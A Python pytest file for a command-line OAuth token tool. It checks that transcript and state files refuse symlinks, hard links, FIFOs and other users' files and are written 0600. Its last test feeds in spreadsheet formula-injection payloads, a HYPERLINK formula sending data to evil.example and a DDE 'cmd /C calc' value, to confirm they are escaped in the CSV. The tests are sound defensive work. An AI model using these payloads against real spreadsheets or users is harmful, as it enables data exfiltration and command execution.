"""Files the command line writes (--transcript, the pending state file) and reads back.

Each is opened once, never through a symbolic link, checked on the descriptor (fstat) and
written with mode 0600; anything else is a usage error (exit 2) with a hint, before any request.
"""

from __future__ import annotations

import json
import os
import stat
import threading

import pytest

from tests.support.canaries import CANARY_SECRET
from widgets.cli.main import EXIT_OK, EXIT_USAGE, main
from widgets.cli.pending import load_state_file, open_private
from widgets.core.errors import ConfigError

SECRET_ENV = "WEBHOOK_LAB_FILES_SECRET"


@pytest.fixture
def provider(make_demo, monkeypatch):
    running = make_demo(client_secret=CANARY_SECRET)
    monkeypatch.setenv(SECRET_ENV, running.client_secret)
    return running


@pytest.fixture
def umask_022():
    old = os.umask(0o022)  # the usual umask, under which open(path, "w") makes 0644
    yield
    os.umask(old)


def token(capsys, provider, *extra):
    code = main(["token", "--token-url", provider.token_url, "--client-id", provider.client_id,
                 "--client-secret-env", SECRET_ENV, *extra])
    captured = capsys.readouterr()
    assert CANARY_SECRET not in captured.out + captured.err
    return code, captured.out, captured.err


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_a_new_transcript_is_written_0600(capsys, provider, tmp_path, umask_022):
    path = tmp_path / "t.csv"
    code, _, err = token(capsys, provider, "--transcript", str(path))
    assert code == EXIT_OK, err
    assert mode(path) == 0o600
    assert "client credentials: token" in path.read_text()


def test_an_existing_transcript_of_ours_is_replaced_and_made_0600(capsys, provider, tmp_path, umask_022):
    path = tmp_path / "t.csv"
    path.write_text("old contents that are much longer than nothing\n" * 100)
    path.chmod(0o644)
    code, _, err = token(capsys, provider, "--transcript", str(path))
    assert code == EXIT_OK, err
    assert mode(path) == 0o600
    text = path.read_text()
    assert "old contents" not in text and text.startswith("time,step,")


@pytest.mark.parametrize("dangling", [False, True], ids=["to-a-file", "dangling"])
def test_a_transcript_path_that_is_a_symlink_is_refused_before_any_request(capsys, provider, tmp_path, dangling):
    target = tmp_path / "victim.txt"
    if not dangling:
        target.write_text("precious\n")
    link = tmp_path / "t.csv"
    link.symlink_to(target)
    code, out, err = token(capsys, provider, "--transcript", str(link))
    assert code == EXIT_USAGE
    assert "symbolic link" in err and "hint:" in err and "transcript" in err
    assert provider.token_requests == []  # refused before anything was sent
    assert link.is_symlink()
    if dangling:
        assert not target.exists()
    else:
        assert target.read_text() == "precious\n"


def test_a_transcript_path_that_is_a_hard_link_is_refused_and_left_as_it_was(capsys, provider, tmp_path):
    target = tmp_path / "victim.txt"
    target.write_text("precious\n")
    link = tmp_path / "t.csv"
    os.link(target, link)
    code, _, err = token(capsys, provider, "--transcript", str(link))
    assert code == EXIT_USAGE and "hard links" in err
    assert target.read_text() == "precious\n"
    assert provider.token_requests == []


def test_a_transcript_path_that_is_a_fifo_is_refused_without_waiting(capsys, provider, tmp_path):
    fifo = tmp_path / "t.csv"
    os.mkfifo(fifo)
    result = {}
    worker = threading.Thread(target=lambda: result.setdefault("run", token(capsys, provider, "--transcript", str(fifo))))
    worker.start()
    worker.join(timeout=20)
    assert not worker.is_alive(), "opening the FIFO blocked"
    code, _, err = result["run"]
    assert code == EXIT_USAGE and "not a regular file" in err


def test_a_transcript_path_that_is_a_directory_is_refused(capsys, provider, tmp_path):
    code, _, err = token(capsys, provider, "--transcript", str(tmp_path))
    assert code == EXIT_USAGE and "not a regular file" in err


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="needs root to give a file away")
def test_a_transcript_file_of_another_user_is_refused(capsys, provider, tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("theirs\n")
    os.chown(path, 4242, 4242)
    code, _, err = token(capsys, provider, "--transcript", str(path))
    assert code == EXIT_USAGE and "belongs to another user" in err
    assert path.read_text() == "theirs\n"


def test_a_state_file_path_that_is_a_dangling_symlink_is_refused(capsys, provider, tmp_path):
    target = tmp_path / "elsewhere.json"
    link = tmp_path / "pending.json"
    link.symlink_to(target)
    code = main(["authorize", "--auth-url", provider.auth_url, "--token-url", provider.token_url, "--client-id",
                 provider.client_id, "--client-secret-env", SECRET_ENV, "--state-file", str(link)])
    err = capsys.readouterr().err
    assert code == EXIT_USAGE and "already exists" in err
    assert not target.exists()


# -- the loader ------------------------------------------------------------------------------------


def private(path, data) -> None:
    path.write_text(json.dumps(data))
    path.chmod(0o600)


def test_the_loader_refuses_a_symlink_to_a_good_state_file(tmp_path):
    good = tmp_path / "good.json"
    private(good, {"state": "x"})
    link = tmp_path / "pending.json"
    link.symlink_to(good)
    with pytest.raises(ConfigError, match="not a regular file"):
        load_state_file(link, lambda text: None)
    assert load_state_file(good, lambda text: None) == {"state": "x"}


def test_the_loader_refuses_a_fifo_without_waiting(tmp_path):
    fifo = tmp_path / "pending.json"
    os.mkfifo(fifo)
    with pytest.raises(ConfigError, match="not a regular file"):
        load_state_file(fifo, lambda text: None)


def test_the_loader_checks_the_file_it_opened(tmp_path, monkeypatch):
    """The checks are made on the open descriptor: stat-ing the path is never how it decides."""
    good = tmp_path / "pending.json"
    private(good, {"state": "x"})
    calls = []
    real_open = os.open
    monkeypatch.setattr(os, "open", lambda *a, **k: calls.append(a) or real_open(*a, **k))
    monkeypatch.setattr(type(good), "lstat", lambda self: pytest.fail("lstat by path"))
    monkeypatch.setattr(type(good), "stat", lambda self, **k: pytest.fail("stat by path"))
    assert load_state_file(good, lambda text: None) == {"state": "x"}
    assert len(calls) == 1 and calls[0][1] & os.O_NOFOLLOW


def test_open_private_creates_0600_and_refuses_an_existing_file_unless_replacing(tmp_path, umask_022):
    path = tmp_path / "f"
    os.close(open_private(path, field="x"))
    assert mode(path) == 0o600
    with pytest.raises(ConfigError, match="already exists"):
        open_private(path, field="x")
    path.write_text("abc")
    fd = open_private(path, field="x", replace=True)
    os.close(fd)
    assert path.read_text() == ""


def test_the_transcript_of_a_formula_answering_provider_has_no_live_formula(capsys, scripted, tmp_path, monkeypatch):
    import csv

    from tests.support.servers import Reply

    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    scripted.routes["/token"] = Reply(400, formula, content_type="+cmd|' /C calc'!A0")
    monkeypatch.setenv(SECRET_ENV, CANARY_SECRET)
    path = tmp_path / "t.csv"
    code = main(["token", "--token-url", scripted.url("/token"), "--client-id", "c", "--client-secret-env", SECRET_ENV,
                 "--transcript", str(path)])
    capsys.readouterr()
    assert code == 3
    rows = list(csv.DictReader(path.open(newline="", encoding="utf-8")))
    assert rows and rows[0]["response_preview"] == "'" + formula and rows[0]["response_type"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["status"] == "400"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert mode(path) == 0o600
